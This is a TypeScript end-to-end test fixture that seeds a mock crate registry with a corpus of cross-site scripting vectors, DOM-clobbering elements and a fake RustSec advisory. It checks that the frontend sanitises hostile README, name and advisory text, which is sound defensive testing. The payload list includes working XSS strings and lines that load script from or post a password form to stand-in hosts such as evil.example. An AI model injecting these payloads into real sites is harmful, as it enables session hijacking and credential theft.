// Hostile input for the e2e suite: XSS vectors from the OWASP filter-evasion cheat
// sheet, SVG/MathML tricks, script URLs in every spelling, CSS url(), <base>,
// <meta refresh>, forms and DOM clobbering, and where they go in the registry.
// Each script payload calls window.__xss(n): a tripwire the spec installs.
import { advisories } from '../src/mocks/fixtures/advisories';
import type { MockRegistry } from '../src/mocks/registry';

const JS = (n: number) => `__xss(${n})`;

/** Templates: `$` becomes a call of the tripwire with the vector's number. */
const TEMPLATES = [
  '<script>$</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:$;">',
  '<IMG SRC=JaVaScRiPt:$>',
  '<IMG SRC=`javascript:$`>',
  '<a onmouseover="$">xxs link</a>',
  '<IMG """><SCRIPT>$</SCRIPT>">',
  '<IMG SRC=# onmouseover="$">',
  '<IMG SRC=/ onerror="$"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A$>',
  '<IMG SRC="jav\tascript:$;">',
  '<IMG SRC="jav&#x09;ascript:$;">',
  '<IMG SRC="jav&#x0A;ascript:$;">',
  '<IMG SRC=" &#14;  javascript:$;">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=$>',
  '<<SCRIPT>$;//<</SCRIPT>',
  '<iframe src=https://xss.example/scriptlet.html <',
  '</TITLE><SCRIPT>$;</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:$;">',
  '<BODY BACKGROUND="javascript:$">',
  '<IMG DYNSRC="javascript:$">',
  '<img src=x:x onerror=$//',
  '"><img src=x onerror=$>',
  "'><script>$</script>",
  '<svg/onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><a xlink:href="javascript:$"><text x="20" y="20">svg link</text></a></svg>',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="$"/></svg>',
  '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=$>',
  '<math href="javascript:$">math link</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:$">maction</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$>',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '<template><img src=x onerror=$></template>',
  '<details open ontoggle=$>',
  '<video><source onerror="$"></video>',
  '<audio src=x onerror=$>',
  '<marquee onstart=$>',
  '<x onclick=$>custom element</x>',
  '<a href="javascript:$">js link</a>',
  '<a href="JaVaScRiPt:$">mixed case</a>',
  '<a href=" javascript:$">leading space</a>',
  '<a href="java&#x09;script:$">tab entity</a>',
  '<a href="&#106;avascript:$">decimal entity</a>',
  '<a href="javascript&colon;$">named colon</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="data:text/html,<script>$</script>">data html</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="VBScript:msgbox(1)">VBScript</a>',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='$'/>\">",
  '<div style="background-image: url(javascript:$)">css url</div>',
  '<div style="width: expression($);">css expression</div>',
  '<style>@import "https://xss.example/xss.css";</style>',
  '<style>body{background:url("javascript:$")}</style>',
  '<link rel="stylesheet" href="javascript:$;">',
  '<base href="javascript:$//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:$;">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<form action="javascript:$"><button>submit</button></form>',
  '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:$">go</button></form>',
  '<iframe src="javascript:$"></iframe>',
  '<iframe srcdoc="<script>parent.$</script>"></iframe>',
  '<object data="javascript:$"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
];

/** DOM clobbering: ids and names of globals and of what the app looks up. */
export const CLOBBERING = [
  '<img name="getElementById">',
  '<a id="__proto__" href="#x">proto</a>',
  '<form name="location"></form>',
  '<a id="__xss">tripwire</a>',
  '<div id="root">fake root</div>',
  '<div id="main-content">fake main</div>',
  '<img name="cookie">',
  '<a id="defaultView" name="defaultView">dv</a>',
  '<form id="document"><input name="cookie"></form>',
  '<img id="localStorage" name="localStorage">',
  '<img name="body">',
];

export const PAYLOADS = TEMPLATES.map((template, n) => template.replaceAll('$', JS(n)));

/** A short one for fields shown in one line (names, keywords, token names). */
export const SHORT = (n: number) => `<img src=x onerror=${JS(n)}><svg/onload=${JS(n)}>`;

export const HOSTILE_CRATE = 'xss-playground';
export const HOSTILE_USER = 'mallory-sec';
export const HOSTILE_TEAM = 'github:rust-lang:libs';
export const HOSTILE_TOKEN_NAME = `<script>${JS(900)}</script>"><img src=x onerror=${JS(901)}>`;

/** The seed's own advisories of the hostile crate, kept: the corpus is added to them. */
const SEEDED_ADVISORIES = advisories[HOSTILE_CRATE] ?? [];

/** Puts the seed's advisories back: the fixture module outlives one test. */
export function restoreAdvisories() {
  advisories[HOSTILE_CRATE] = SEEDED_ADVISORIES;
}

/** The places payloads go, and how many payloads each gets. */
export function seedHostileInput(registry: MockRegistry) {
  const { db } = registry;
  const crate = db.crateByName(HOSTILE_CRATE);
  if (!crate) throw new Error(`hostile corpus: no ${HOSTILE_CRATE}`);
  // First the safe parts: an unclosed payload may swallow whatever follows it.
  const readme = `<h1>Hostile README</h1><p>This text must still be visible.</p>
    <p><a href="https://tracker.example/page">external link</a>
    <img src="https://tracker.example/pixel.png" alt="tracking pixel"></p>
    ${[...CLOBBERING, ...PAYLOADS].join('\n<p>·</p>\n')}`;
  const versions = db.versionsOf(crate.id);
  for (const version of versions) version.readme = readme;
  crate.description = PAYLOADS.slice(0, 8).join(' ');
  crate.keywords = ['xss', '<svg onload=__xss(800)>'];
  const yanked = versions[0];
  if (yanked) {
    yanked.yanked = true;
    yanked.yank_message = PAYLOADS.slice(0, 8).join(' ');
  }
  const user = db.userByLogin(HOSTILE_USER);
  if (user) user.name = SHORT(810);
  const team = db.teamByLogin(HOSTILE_TEAM);
  if (team) team.name = SHORT(820);
  const demo = db.userByLogin('ferris-demo');
  const token = db.tokens.find((t) => t.user_id === demo?.id);
  if (token) token.name = HOSTILE_TOKEN_NAME;
  // The Security tab renders OSV details as Markdown (raw HTML passes through marked)
  // and the summary as text. Served from the fixture module, as rustsec.org would.
  advisories[HOSTILE_CRATE] = [
    ...SEEDED_ADVISORIES,
    {
      id: 'RUSTSEC-2026-0999',
      modified: '2026-11-01T12:00:00Z',
      published: '2026-11-01T12:00:00Z',
      aliases: ['CVE-2026-0999', SHORT(830)],
      summary: PAYLOADS.slice(0, 8).join(' '),
      details: `This advisory text must still be visible.\n\n${[...CLOBBERING, ...PAYLOADS].join('\n\n·\n\n')}`,
      severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N' }],
      affected: [
        {
          package: {
            ecosystem: 'crates.io',
            name: HOSTILE_CRATE,
            purl: `pkg:cargo/${HOSTILE_CRATE}`,
          },
          database_specific: { categories: ['code-execution'], cvss: null, informational: null },
          ranges: [{ type: 'SEMVER', events: [{ introduced: '0.0.0-0' }] }],
        },
      ],
      references: [{ type: 'WEB', url: 'https://tracker.example/advisory' }],
    },
  ];
  return {
    places: {
      readme: PAYLOADS.length + CLOBBERING.length,
      description: 8,
      keywords: 1,
      'yank message': 8,
      'user name': 1,
      'team name': 1,
      'token name': 1,
      'advisory details': PAYLOADS.length + CLOBBERING.length,
      'advisory summary': 8,
      'advisory alias': 1,
    },
  };
}
